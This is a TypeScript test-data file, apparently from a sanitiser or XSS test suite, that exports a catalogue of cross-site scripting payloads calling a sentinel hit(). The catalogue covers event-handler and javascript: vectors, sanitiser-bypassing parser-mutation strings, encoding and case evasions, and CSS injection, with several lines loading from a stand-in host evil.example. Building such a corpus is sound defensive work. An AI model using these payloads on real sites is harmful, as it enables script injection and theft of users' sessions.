/** `hit()` is what the page must never call. */
const img = '<img src=x onerror=hit()>';

/** Elements that run something by themselves. */
const elements = [
  '<script>hit()</script>',
  '<script src=data:text/javascript,hit()></script>',
  '<script type=module>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  img,
  '<img src=x:x onerror=hit()//',
  '<img/src/onerror=hit()>',
  '<image src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set onbegin=hit() attributeName=x>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit() />#x" /></svg>',
  '<svg><foreignObject><body onload=hit()></foreignObject></svg>',
  '<math href="javascript:hit()">x</math>',
  '<math><mi//xlink:href="data:x,<script>hit()</script>">',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe onload=hit()></iframe>',
  '<object data="javascript:hit()"></object>',
  '<object data=data:text/html,<script>hit()</script>></object>',
  '<embed src="javascript:hit()">',
  '<video src=x onerror=hit()></video>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<details open ontoggle=hit()>x</details>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()></select>',
  '<textarea autofocus onfocus=hit()></textarea>',
  '<button autofocus onfocus=hit()>x</button>',
  '<div tabindex=1 autofocus onfocus=hit()>x</div>',
  '<marquee onstart=hit()>x</marquee>',
  '<body onload=hit()>',
  '<body onpageshow=hit()>',
  '<style onload=hit()></style>',
  '<link rel=stylesheet href=data:text/css,x onload=hit()>',
  '<link rel=import href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=javascript:hit()><input type=submit></form>',
  '<form><button formaction=javascript:hit()>x</button></form>',
  '<isindex action=javascript:hit() type=image>',
  '<template shadowrootmode=open><img src=x onerror=hit()></template>',
  '<table background="javascript:hit()">',
  '<frameset onload=hit()>',
  '<dialog open oncancel=hit()>x</dialog>',
  '<x style="animation-name:x" onanimationstart=hit()>x</x>',
  '<a href="javascript:hit()" autofocus>x</a>',
  '<a href=# ping=//evil.example>x</a>',
  '<p popover ontoggle=hit() id=p>x</p><button popovertarget=p autofocus>x</button>',
  '<script>import("data:text/javascript,hit()")</script>',
] as const;

/** What ends the place where a careless page put a text. */
const ends = [
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '-->',
  ']]>',
  '--!>',
  '`>',
  '</template>',
];

const events = [
  'onclick',
  'onmouseover',
  'onfocus',
  'onpointerenter',
  'onanimationend',
  'ontoggle',
  'onbeforetoggle',
  'onscrollend',
];
const quotes = ['"', "'", ''];
const gaps = [' ', '/', '\t', '\n'];

function attributes(): string[] {
  const plain = events.flatMap((event) =>
    quotes.map((quote) => `x${quote} ${event}=hit() autofocus tabindex=1 y=${quote}`),
  );
  const spaced = gaps.flatMap((gap) =>
    quotes.map(
      (quote) => `x${quote}${gap}onfocus${gap === '/' ? '' : gap}=hit()${gap}autofocus${gap}z=${quote}`,
    ),
  );
  return [
    ...plain,
    ...spaced,
    'x" style="background:url(javascript:hit())',
    'x" srcdoc="<script>hit()</script>',
    'x" is="x-hit',
  ];
}

/** Harmless to one parser, markup to the next: what a sanitiser reads differently than the page does. */
const mutating = [
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<svg><title><style><img src="</style><img src=x onerror=hit()>">',
  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  '<noembed><p title="</noembed><img src=x onerror=hit()>">',
  '<plaintext><img src=x onerror=hit()>',
  '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hit()>">',
  '<svg><![CDATA[><img src=x onerror=hit()>]]>',
  '<svg><desc><table><style><!--</style></table></desc><img title="--><img src=x onerror=hit()>">',
  '<!--><img src=x onerror=hit()>-->',
  '<!-- --!><img src=x onerror=hit()>',
  '<![if !IE]><img src=x onerror=hit()>',
  '<?xml version="1.0"?><img src=x onerror=hit()>',
  '<?php ><img src=x onerror=hit()> ?>',
  '<%00img src=x onerror=hit()>',
  '</p/><img src=x onerror=hit()>',
  '<a<img src=x onerror=hit()>',
  '<<img src=x onerror=hit()>//<',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<im<!-- -->g src=x onerror=hit()>',
  '<img src=`x` onerror=hit()>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<img src=x onerror="&#104;it()">',
  '<img src=x onerror=&#x68;it&lpar;&rpar;>',
  '<a href="&#106;avascript&colon;hit()" autofocus onfocus=hit()>x</a>',
  '<b title="<img src=x onerror=hit()>">x',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml>',
];

export function markup(): Readonly<Record<string, readonly string[]>> {
  return {
    elements,
    'after an end': ends.flatMap((end) =>
      [img, '<svg/onload=hit()>', '<script>hit()</script>'].map((one) => end + one),
    ),
    attributes: attributes(),
    'mixed case': elements.slice(0, 24).map((one) => one.replaceAll(/(?<=<\/?)[a-z]+|\bon[a-z]+/g, mixed)),
    mutating,
    styles: [
      '<style>@import"//evil.example/x.css";</style>',
      '<style>*{background:url(//evil.example/x)}</style>',
      '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=hit()>x</p>',
      '<p style="background:url(javascript:hit())">x</p>',
      '<p style="width:expression(hit())">x</p>',
      '<p style="position:fixed;inset:0;background:red">x</p>',
      '<link rel=stylesheet href=//evil.example/x.css>',
      'x;background:url(//evil.example/x)',
      'x}*{display:none}',
      'expression(hit())',
      '\\65\\78pression(hit())',
      '</style><script>hit()</script>',
    ],
  };
}

const mixed = (word: string): string =>
  Array.from(word, (letter, i) => (i % 2 === 0 ? letter.toUpperCase() : letter)).join('');

/** Once more, so that what decodes them twice finds them. */
export const plainElements = elements.slice(0, 12);
